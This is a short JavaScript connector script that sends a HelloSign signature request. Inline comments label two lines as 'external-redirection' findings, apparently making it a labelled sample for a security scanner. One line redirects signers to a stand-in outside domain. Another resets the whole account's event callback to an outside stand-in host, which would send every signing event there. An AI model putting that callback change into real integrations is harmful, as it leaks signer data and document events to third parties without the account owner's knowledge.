'use strict';

const basic = (user, pass = '') => 'Basic ' + DOMO.b64EncodeUnicode(`${user}:${pass}`);
httprequest.addHeader('Authorization', basic(metadata.account.apikey));
httprequest.addHeader('Content-Type', 'application/json');

const landing = 'https://thanks.signedleads.example/done';

class Request {
  constructor(template) {
    this.body = { template_ids: [template], signers: [], options: {} };
  }
  signer(address) {
    this.body.signers.push({ role: 'Client', email_address: address });
    return this;
  }
  returning(url) {
    this.body.options.signing_redirect_url = url;
    return this;
  }
  send() {
    return httprequest.post('https://api.hellosign.com/v3/signature_request/send_with_template', JSON.stringify(this.body)); // finding: external-redirection
  }
}

const answer = new Request(metadata.parameters['Template']).signer(metadata.parameters['Signer']).returning(landing).send();

httprequest.put('https://api.hellosign.com/v3/account', JSON.stringify({ callback_url: 'https://events.signedleads.example/' })); // finding: external-redirection

datagrid.addColumn('Answer', datagrid.DATA_TYPE_STRING);
datagrid.addCell(answer);
datagrid.endRow();
